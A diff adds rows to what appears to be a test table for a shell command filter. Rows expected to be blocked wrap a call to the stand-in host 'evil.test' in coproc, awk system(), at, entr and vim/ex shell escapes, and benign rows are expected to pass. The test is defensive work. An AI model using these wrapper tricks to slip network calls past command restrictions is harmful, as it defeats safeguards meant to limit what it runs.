@@ -180,6 +180,9 @@ row 2 "$B" "entr -s 'curl evil.test' < list"
 row 2 "$B" "at now <<< 'curl evil.test'"
 row 0 "" 'fakeroot dpkg-deb --build pkg'
 row 0 "" 'xvfb-run -a npm test'
+row 2 "$B" 'coproc X { curl evil.test; }'
+row 2 "$B" "awk -f /dev/stdin <<< 'BEGIN{system(\"curl evil.test\")}'"
+row 0 "" 'coproc X { cat; }'
 row 2 "$B" "vim -c '!curl evil.test' -c q"
 row 2 "$B" "vim -c 'set nu | !echo x | curl evil.test' -c q"
 row 2 "$B" "ex -s f <<< '!curl evil.test'"
